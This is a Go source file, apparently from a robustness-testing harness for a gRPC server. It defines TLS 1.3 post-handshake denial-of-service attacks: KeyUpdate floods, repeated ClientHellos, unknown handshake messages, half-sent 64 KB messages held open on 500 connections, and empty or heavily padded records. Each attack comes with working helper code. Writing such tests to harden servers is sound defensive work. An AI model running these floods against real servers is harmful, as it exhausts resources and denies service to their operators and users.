// SPDX-License-Identifier: Apache-2.0

package kinds

import (
	"google.golang.org/grpc/attack/internal/attacker"
	"google.golang.org/grpc/attack/internal/wire"
)

// Messages of TLS 1.3 that have no place behind the handshake, or not from everybody.
const (
	// a ClientHello with a cipher suite and nothing else
	clientHello = "\x01\x00\x00\x29\x03\x03" + "................................" + "\x00" + "\x00\x02\x13\x01" + "\x01\x00"
	// the beginning of a message of a KeyUpdate's type that is 65,520 bytes long
	longMessage = "\x18\x00\xff\xf0"
)

// tlsRecordKinds are attacks on a server with the records of TLS 1.3, behind a proper
// handshake.
var tlsRecordKinds = []Kind{
	{
		Name: "server/tls/key-updates", Serve: secured,
		About:  "KeyUpdates that want no answer, eight for each WINDOW_UPDATE (RFC 8446, 4.6.3)",
		Attack: flood(4, true, keyUpdates(false)),
	},
	{
		Name: "server/tls/key-updates-answered", Serve: secured,
		About:  "KeyUpdates that want one in answer, eight for each WINDOW_UPDATE (RFC 8446, 4.6.3)",
		Attack: flood(4, true, keyUpdates(true)),
	},
	{
		Name: "server/tls/key-updates-unread", Serve: secured, Short: true,
		About:  "the same, nobody reads",
		Attack: flood(16, false, keyUpdates(true)),
	},
	{
		Name: "server/tls/key-updates-only", Serve: secured,
		About:  "KeyUpdates without end, and nothing else",
		Attack: flood(4, true, func(c *attacker.Conn) error { return c.KeyUpdate(false) }),
	},
	{
		Name: "server/tls/renegotiation", Serve: secured,
		About:  "a second ClientHello behind the handshake, again and again (RFC 8446, 4.1.2)",
		Attack: flood(4, true, messageAgain(clientHello)),
	},
	{
		Name: "server/tls/unknown-message", Serve: secured,
		About:  "a message of a type that does not exist behind the handshake, again and again",
		Attack: flood(4, true, messageAgain("\xfa\x00\x00\x04abcd")),
	},
	{
		Name: "server/tls/half-message", Serve: secured,
		About:  "60 KB of a message of 64 KB behind the handshake, on 500 connections",
		Attack: hold(500, false, halfMessage),
	},
	{
		Name: "server/tls/empty-records", Serve: secured,
		About:  "records that carry nothing, eight for each WINDOW_UPDATE (RFC 8446, 5.4)",
		Attack: flood(4, true, emptyRecords),
	},
	{
		Name: "server/tls/padding", Serve: secured,
		About:  "WINDOW_UPDATEs in records with 16,000 bytes of padding (RFC 8446, 5.4)",
		Attack: flood(4, true, paddedFrame),
	},
}

// aFrame is one that is of use, and as often as one likes: a byte more of the window.
var aFrame = wire.AppendFrame(nil, wire.Frame{Type: wire.WindowUpdate, Payload: wire.Uint32(1)})

// keyUpdates is a few of them, and something of use.
func keyUpdates(answer bool) script {
	return func(c *attacker.Conn) error {
		for range 8 {
			if err := c.KeyUpdate(answer); err != nil {
				return err
			}
		}
		return c.Record(attacker.RecordApplication, aFrame, 0)
	}
}

// messageAgain sends a message of the handshake on a connection, and takes the next.
func messageAgain(text string) script {
	return func(c *attacker.Conn) error {
		return first(c.Record(attacker.RecordHandshake, []byte(text), 0), errAgain)
	}
}

func halfMessage(c *attacker.Conn) error {
	if err := c.Record(attacker.RecordHandshake, []byte(longMessage+bytesOf(15<<10)), 0); err != nil {
		return err
	}
	for range 3 {
		if err := c.Record(attacker.RecordHandshake, []byte(bytesOf(15<<10)), 0); err != nil {
			return err
		}
	}
	return nil
}

func emptyRecords(c *attacker.Conn) error {
	for range 8 {
		if err := c.Record(attacker.RecordApplication, nil, 0); err != nil {
			return err
		}
	}
	return c.Record(attacker.RecordApplication, aFrame, 0)
}

func paddedFrame(c *attacker.Conn) error { return c.Record(attacker.RecordApplication, aFrame, 16_000) }
